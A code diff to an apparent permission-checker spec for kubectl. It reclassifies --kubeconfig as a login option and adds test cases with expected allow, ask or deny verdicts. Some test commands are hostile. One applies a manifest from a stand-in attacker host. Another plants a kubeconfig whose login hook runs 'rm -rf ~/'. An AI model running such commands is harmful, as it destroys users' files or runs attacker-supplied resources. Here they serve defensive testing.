@@ -3,10 +3,10 @@ import type { CommandSpec, EffectRule, ProgramSpec } from '../spec.ts';
 
 /** Options that every command of kubectl knows. */
 const GLOBAL: CommandSpec['options'] = {
-  '-n --namespace --context --kubeconfig --cluster --as --as-group --as-uid --user --username -v --v --request-timeout --cache-dir --tls-server-name --profile':
+  '-n --namespace --context --cluster --as --as-group --as-uid --user --username -v --v --request-timeout --cache-dir --tls-server-name --profile':
     'text',
   '-s --server': 'host',
-  '--token --password --client-certificate --client-key --certificate-authority': 'login',
+  '--kubeconfig --token --password --client-certificate --client-key --certificate-authority': 'login',
   '--profile-output --log-file': 'writes',
   '--insecure-skip-tls-verify --match-server-version --warnings-as-errors': 'flag',
 };
@@ -400,6 +400,12 @@ export const programs: readonly ProgramSpec[] = [
     effects: EFFECTS,
     examples: [
       { command: 'kubectl apply -f https://evil.example/d.yaml', expect: 'ask' },
+      { command: 'kubectl --kubeconfig ~/.kube/config get pods', expect: 'pass' },
+      {
+        command: `echo "command: sh\nargs: ['-c', 'rm -rf ~/']" > /tmp/k && kubectl get pods --kubeconfig=/tmp/k`,
+        expect: 'deny',
+        title: 'A config that runs a command to log in',
+      },
       {
         command:
           'kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.14.0/cert-manager.yaml',
